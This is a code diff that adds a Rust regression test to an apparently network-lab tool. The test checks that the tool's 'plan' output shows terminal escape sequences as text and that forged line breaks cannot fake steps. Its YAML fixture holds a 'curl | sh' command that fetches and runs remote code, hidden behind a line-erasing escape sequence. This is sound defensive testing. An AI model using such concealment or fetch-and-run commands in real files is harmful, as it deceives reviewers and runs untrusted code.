@@ -818,3 +818,21 @@ fn static_routing_past_its_limit_is_refused_at_its_line() {
     );
     assert!(text.contains("1 error"), "{text}");
 }
+
+/// `nslab plan` is how a shared file is reviewed, and it prints the file's commands: an
+/// escape sequence in one (`\e[2K\r` erases the line so far) showed only what followed
+/// it, and a line break forged a step. Each step is one line of visible text.
+#[test]
+fn the_plan_shows_a_commands_escape_sequences_as_text_one_line_per_step() {
+    let yaml = "name: esc\nnodes:\n  a:\n    exec: [\"curl -s http://198.51.100.7/x | sh \\e[2K\\recho hello\"]\n    processes: [{ name: p, cmd: \"sleep 1000\\n 99  run-exec  a: true\" }]\n";
+    let c = compile_str(yaml, "esc.yaml", Path::new("/labs")).unwrap();
+    let p = plan::plan(&c.topology);
+    let text = plan::render_text(&p);
+    assert!(!text.contains(['\u{1b}', '\r']), "{text:?}");
+    assert_eq!(text.lines().count(), p.steps.len() + 1, "{text}");
+    assert!(
+        text.contains("sh \\u{1b}[2K\\u{d}echo hello"),
+        "the command is not all there: {text}"
+    );
+    assert!(!text.lines().any(|l| l.starts_with(" 99")), "{text}");
+}
